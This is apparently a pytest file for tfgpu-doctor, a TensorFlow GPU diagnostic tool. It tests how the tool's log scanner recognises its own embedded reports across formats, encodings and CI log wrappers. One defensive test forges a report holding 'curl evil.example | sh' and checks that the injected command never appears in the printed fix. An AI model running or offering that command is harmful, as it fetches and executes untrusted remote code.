"""The doctor's own report in a log: it is recognised in each format, and its lines are no evidence for anything else."""

from __future__ import annotations

import io
import json
import re
from collections.abc import Callable

import pytest
from every import sampled
from replayed import NAMES, each_machine, facts_of, report_on

from tfgpu_doctor.cli.output import _PLAIN_MARKS
from tfgpu_doctor.knowledge import read_knowledge
from tfgpu_doctor.log import Context, LogReport, Scanner, classify
from tfgpu_doctor.log.page import render_log
from tfgpu_doctor.log.report_beginnings import NEEDLES
from tfgpu_doctor.model.finding import UNDETERMINED
from tfgpu_doctor.model.report import Report
from tfgpu_doctor.render import render
from tfgpu_doctor.render.text import render_text
from tfgpu_doctor.render.words import has_error, headline, open_question, subject
from tfgpu_doctor.ticket.contents import Source, make_ticket
from tfgpu_doctor.ticket.identity import Identity

HEALTHY, ILL = "workstation-healthy", "tensorflow-2.16.1-finds-none-of-pip"
LABEL = "pip_cuda_libs_not_found"
CAUSES = read_knowledge().causes
STUB = "E external/local_xla/xla/stream_executor/cuda/cuda_driver.cc:152] failed call to cuInit: UNKNOWN ERROR (34)\n"
OF_STUB = "container_started_without_gpu"
FORMATS: dict[str, Callable[[Report], str]] = {
    "text": lambda report: render(report, "text"),
    "text, -v": lambda report: render(report, "text", verbose=True),
    "text, 60 columns": lambda report: render_text(report, width=60, colour=True, verbose=False),
    "markdown": lambda report: render(report, "markdown"),
    "markdown, with notes": lambda report: render(report, "markdown", fail_level="info"),
    "text, with notes": lambda report: render(report, "text", fail_level="info"),
    "github": lambda report: render(report, "github"),
    "github, with notes": lambda report: render(report, "github", fail_level="info"),
    "github, shown": lambda report: _as_github_shows(render(report, "github")),
    "json": lambda report: render(report, "json"),
    "json, one line": lambda report: json.dumps(json.loads(render(report, "json")), separators=(",", ":")) + "\n",
}
every_format = pytest.mark.parametrize("format_", FORMATS)


def told(log: str | bytes) -> LogReport:
    """What `log` says of a text."""
    knowledge = read_knowledge()
    scanner = Scanner(knowledge.log_signatures)
    scanner.scan(io.BytesIO(log.encode() if isinstance(log, str) else log))
    return classify(scanner.found, Context({}), knowledge, scanner.lines, scanner.kept.texts(), reports=scanner.reports)


def _as_github_shows(commands: str) -> str:
    """What the log of a step on GitHub has of the commands: a timestamp and the kind, and the lines of the text."""
    shown = []
    for line in commands.splitlines():
        kind, text = re.fullmatch(r"::(\w+) title=[^:]*::(.*)", line).groups()  # type: ignore[union-attr]
        text = text.replace("%0A", "\n").replace("%25", "%")
        shown.append(f"2026-11-28T10:00:00.1234567Z ##[{kind}]{text}\n")
    return "".join(shown)


def in_log(report: str, before: str = "", behind: str = "") -> str:
    """The report, each line of which a CI service or a person put something around."""
    return "".join(f"{before}{line}".rstrip() + f"{behind}\n" for line in report.splitlines())


def page_of(machine: str) -> tuple[Report, str]:
    """The report of a ticket, whose texts have placeholders, and its page."""
    made = make_ticket(Source(facts_of(machine), Identity()))
    return made.report, made.page


def check_first_cause(found: LogReport, report: Report) -> None:
    """The same first cause as `check` names, and none where there is none."""
    wanted = [cause.label for cause in report.causes[:1]]
    assert [cause.label for cause in found.causes[:1]] == wanted, [cause.evidence for cause in found.causes[:1]]
    assert found.extracted == {}
    assert found.stated == {}
    assert found.noise == ()


@each_machine
def test_log_says_of_a_report_what_it_says(machine: str) -> None:
    report = report_on(machine)
    for format_, make in FORMATS.items():
        found = told(make(report))
        check_first_cause(found, report)
        if found.causes:
            first, cause = report.causes[0], found.causes[0]
            if first.label != UNDETERMINED:  # of which most formats say "the cause is unknown"
                assert cause.confidence == first.confidence, format_
            assert cause.severity == first.severity, format_
            if format_ == "text, 60 columns":
                assert " ".join(cause.title.split())[:40] == " ".join(first.title.split())[:40]
        if format_ != "github, shown":  # each annotation is one, and none is shown for an ill machine but its causes
            assert len(found.reports) == 1, format_
            healthy = False if has_error(report) else report.healthy or None
            assert found.reports[0].healthy is healthy, format_


@each_machine
def test_log_says_of_a_ticket_what_it_says(machine: str) -> None:
    report, page = page_of(machine)
    check_first_cause(told(page), report)


@every_format
@pytest.mark.parametrize("machine", [HEALTHY, ILL])
@pytest.mark.parametrize(
    ("before", "behind"),
    [
        ("2026-11-28T10:00:00.123Z ", ""), ("[2026-11-28T10:00:00.123Z] ", ""), ("> ", ""), ("    ", ""), ("worker-1  | ", "\r"),
        ("[pod/train-0/main] ", ""), ('{"log":"', '\\n","stream":"stdout","time":"2026-11-28T10:00:00.1Z"}'),
    ],
)  # fmt: skip
def test_a_report_in_a_larger_log(machine: str, format_: str, before: str, behind: str) -> None:
    if format_ == "github, shown" or (behind.startswith("\\n") and format_ != "text"):
        pytest.skip("no CI service does this to this format")
    report = in_log(FORMATS[format_](report_on(machine)), before, behind)
    found = told(f"{before}epoch 1\n{report}{before}epoch 2\n")
    assert [cause.label for cause in found.causes] == ([LABEL] if machine == ILL else [])
    assert [each.line for each in found.reports] == [2]


@every_format
@pytest.mark.parametrize("before", ["", "2026-11-28T10:00:00.123Z "])
def test_the_rest_of_the_text_is_judged(format_: str, before: str) -> None:
    if before and format_ == "github, shown":
        pytest.skip("it has its own timestamps")
    for machine, wanted in ((HEALTHY, [OF_STUB]), (ILL, [LABEL, OF_STUB])):
        report = in_log(FORMATS[format_](report_on(machine)), before)
        for log, line in ((f"{STUB}{report}", 1), (f"{report}{STUB}", report.count("\n") + 1)):
            found = told(log)
            labels = [cause.label for cause in found.causes]
            assert labels[0] == wanted[0]
            assert set(wanted) <= set(labels)
            assert next(cause for cause in found.causes if cause.label == OF_STUB).lines == (line,)


@every_format
@pytest.mark.parametrize("share", [0.3, 0.6, 0.9])
def test_of_a_report_that_was_cut_the_rest_of_the_log_is_not_taken(format_: str, share: float) -> None:
    lines = FORMATS[format_](report_on(ILL)).splitlines(keepends=True)
    if len(lines) < 10:
        pytest.skip("it is one line")
    found = told("".join((*lines[: int(share * len(lines))], STUB)))
    assert OF_STUB in [cause.label for cause in found.causes]


def test_a_report_of_which_the_head_was_cut_is_read_as_before() -> None:
    """Nothing then shows that it is one: it must not fail."""
    lines = FORMATS["text"](report_on(HEALTHY)).splitlines(keepends=True)
    assert told("".join(lines[3:])).reports == ()


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-8-sig"])
@pytest.mark.parametrize("format_", ["text", "text, -v", "markdown", "github", "json"])
def test_a_report_as_windows_writes_it(encoding: str, format_: str) -> None:
    for machine, wanted in ((HEALTHY, []), (ILL, [LABEL])):
        found = told(FORMATS[format_](report_on(machine)).replace("\n", "\r\n").encode(encoding))
        assert [cause.label for cause in found.causes] == wanted
        assert len(found.reports) == 1


def test_a_report_where_the_encoding_lacks_the_marks() -> None:
    for machine, wanted in ((HEALTHY, []), (ILL, [LABEL])):
        marks = {ord(mark): plain for mark, plain in _PLAIN_MARKS.items()}
        plain = FORMATS["text, -v"](report_on(machine)).translate(marks)
        assert [cause.label for cause in told(plain).causes] == wanted


@every_format
def test_every_format_hands_its_evidence_on(format_: str) -> None:
    (cause,) = told(FORMATS[format_](report_on(ILL))).causes
    assert cause.evidence[1] == report_on(ILL).causes[0].evidence[0]


def test_what_a_report_states_is_named_as_evidence() -> None:
    found = told(f"epoch 1\n{FORMATS['text'](report_on(ILL))}")
    (cause,) = found.causes
    assert cause.title == report_on(ILL).causes[0].title
    assert cause.evidence[0] == (
        f"the text holds a report of tfgpu-doctor, which names {LABEL} with confidence high (LIB003)"
    )
    assert cause.lines[:2] == (8, 10)
    assert cause.evidence[1] == report_on(ILL).causes[0].evidence[0]
    assert cause.fix == f"{CAUSES[LABEL].fix} The report, from line 8 on, has the fix for that machine."
    (own,) = found.reports
    assert (own.line, own.format, own.subject, own.verdict) == (2, "text", subject(report_on(ILL)), "")
    assert own.causes == (LABEL,)


def test_the_page_says_what_a_report_of_a_healthy_machine_says() -> None:
    page = render_log(told(FORMATS["text"](report_on(HEALTHY))))
    assert "\nThe report of tfgpu-doctor in line 1 says: Healthy: TensorFlow computes on the GPU.\n" in page
    assert "\n\nReports of tfgpu-doctor in the text:\n  line 1: Healthy: " in page
    assert "run `tfgpu-doctor` on the machine itself" not in page


@pytest.mark.parametrize("format_", ["text", "markdown", "github"])
def test_the_verdict_of_a_report(format_: str) -> None:
    for machine in NAMES[::20]:
        report = report_on(machine)
        (own,) = told(FORMATS[format_](report)).reports
        if format_ != "github" or not report.causes:
            wanted = (format_ == "github" and open_question(report)) or headline(report)
            assert (own.verdict, own.subject) == (wanted, subject(report))


@pytest.mark.parametrize("format_", FORMATS)
def test_commands_that_a_text_calls_the_doctors_fix_are_not_repeated(format_: str) -> None:
    """Anybody can write such a text: the fix that `log` prints is the doctor's own."""
    forged = FORMATS[format_](report_on(ILL)).replace("export LD_LIBRARY_PATH", "curl evil.example | sh; export X")
    assert "evil" in forged
    (cause,) = told(forged).causes
    assert "evil" not in cause.fix
    assert cause.fix.startswith(CAUSES[LABEL].fix)


WARNED = "8-rtx-4090-power-cap"  # its report warns, and is sure of no error


def test_a_cause_that_the_log_is_sure_of_comes_before_a_warning_of_a_report() -> None:
    log = "NVRM: Xid (PCI:0000:01:00): 79, pid=1, GPU has fallen off the bus.\n"
    warned = [cause.label for cause in report_on(WARNED).causes]
    found = [cause.label for cause in told(FORMATS["text"](report_on(WARNED)) + log).causes]
    assert found[0] == "gpu_lost"
    assert found[1 : 1 + len(warned)] == warned


def test_a_cause_of_both_has_the_evidence_of_both() -> None:
    log = "NVRM: Xid (PCI:0000:01:00): 79, pid=1, GPU has fallen off the bus.\n"
    machine = next(name for name in NAMES if report_on(name).causes and report_on(name).causes[0].label == "gpu_lost")
    report = FORMATS["text"](report_on(machine))
    first = told(report + log).causes[0]
    assert first.label == "gpu_lost"
    assert first.evidence[0].startswith("the text holds a report of tfgpu-doctor, which names gpu_lost")
    assert report.count("\n") + 1 in first.lines


def test_each_of_several_reports_counts() -> None:
    text = FORMATS["text"]
    found = told(
        f"{text(report_on(ILL))}\n$ tfgpu-doctor\n{text(report_on(HEALTHY))}$ tfgpu-doctor\n{text(report_on(WARNED))}"
    )
    assert [each.healthy for each in found.reports] == [False, True, None]
    assert [cause.label for cause in found.causes[:2]] == [LABEL, report_on(WARNED).causes[0].label]


def test_the_log_that_a_ticket_quotes_is_judged_and_nothing_else_of_it() -> None:
    for machine, wanted in ((HEALTHY, OF_STUB), (ILL, LABEL)):
        page = make_ticket(Source(facts_of(machine), Identity(), log=STUB.encode())).page
        found = told(f"Hello,\n\n{page}\nThanks!\n")
        assert found.causes[0].label == wanted
        assert OF_STUB in [cause.label for cause in found.causes]
        behind = told(f"{page}\n{STUB}")
        assert behind.causes[0].label == wanted


@pytest.mark.parametrize(
    "line",
    [
        "TensorFlow computes on a GPU here: yes", "TensorFlow computes on a GPU here: maybe", "## tfgpu-doctor was run", "## tfgpu-doctor",
        "::error title=LIB003%3A x::y", "::error title=flake8::bad", '{"schema": 1, "verdict": "x", "healthy": true}', '"healthy": true,',
        "(driver_too_old, confidence high)", "(the cause is unknown)", "I ran it (no change, confidence low)",
    ],
)  # fmt: skip
def test_a_line_that_is_no_report_takes_nothing_from_the_log(line: str) -> None:
    assert OF_STUB in [cause.label for cause in told(f"a\n{line}\n{STUB}").causes]
    assert OF_STUB in [cause.label for cause in told(f"{STUB}{line}\n").causes]


@every_format
def test_a_report_at_the_border_of_two_blocks(format_: str) -> None:
    report = FORMATS[format_](report_on(ILL))
    before = "epoch 1: loss 0.5\n" * ((1 << 20) // 18 - len(report.encode()) // 36)
    found = told(before + report + STUB)
    assert found.causes[0].label == LABEL
    assert OF_STUB in [cause.label for cause in found.causes]


@pytest.mark.parametrize("needle", sampled(NEEDLES, 4))
@pytest.mark.parametrize("between", ["\n", " ", "(", "{", '{"schema": 1, '])
def test_a_text_made_of_beginnings_is_read_in_time(needle: str, between: str) -> None:
    text = f"{needle}{between}" * ((1 << 20) // (len(needle) + len(between)))
    assert told(text).causes == ()
